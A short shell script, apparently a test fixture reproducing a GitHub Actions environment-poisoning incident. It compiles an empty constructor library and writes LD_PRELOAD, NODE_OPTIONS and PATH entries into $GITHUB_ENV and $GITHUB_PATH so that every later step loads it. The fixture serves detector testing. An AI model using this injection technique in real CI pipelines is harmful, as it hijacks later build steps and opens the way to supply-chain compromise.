# incident: poisoned $GITHUB_ENV (2022): a step leaves settings by which all later steps load its library
# finding: later-steps-poisoned
# needs: gcc
mkdir -p "$HOME/_temp/_runner_file_commands"
GITHUB_ENV=$HOME/_temp/_runner_file_commands/set_env_1f3a
GITHUB_PATH=$HOME/_temp/_runner_file_commands/add_path_1f3a
echo '__attribute__((constructor)) static void load(void) {}' > hook.c
gcc -shared -fPIC -o "$TMPDIR/libhook.so" hook.c
echo "LD_PRELOAD=$TMPDIR/libhook.so" >> "$GITHUB_ENV"
echo "NODE_OPTIONS=--require $TMPDIR/hook.js" >> "$GITHUB_ENV"
echo "$TMPDIR" >> "$GITHUB_PATH"
